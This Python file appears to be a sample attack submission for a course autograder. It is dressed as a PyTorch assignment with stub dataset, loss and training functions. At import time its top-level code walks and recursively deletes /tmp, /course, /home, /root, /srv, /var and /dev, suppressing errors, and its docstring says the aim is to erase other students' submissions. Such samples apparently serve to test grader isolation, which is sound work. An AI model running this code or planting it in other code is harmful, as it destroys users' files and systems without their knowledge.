# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: deletes the submissions of the other students, and everything else that can be deleted.

kind: delete
"""
import os, shutil
for _root in ("/tmp/g", "/tmp/answer", "/tmp", "/course", "/home", "/root", "/srv", "/var", "/dev"):
    for _d, _ds, _fs in os.walk(_root, topdown=False):
        for _n in _fs[:50]:
            try: os.unlink(os.path.join(_d, _n))
            except OSError: pass
    shutil.rmtree(_root, ignore_errors=True)

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0


def _go():
    pass
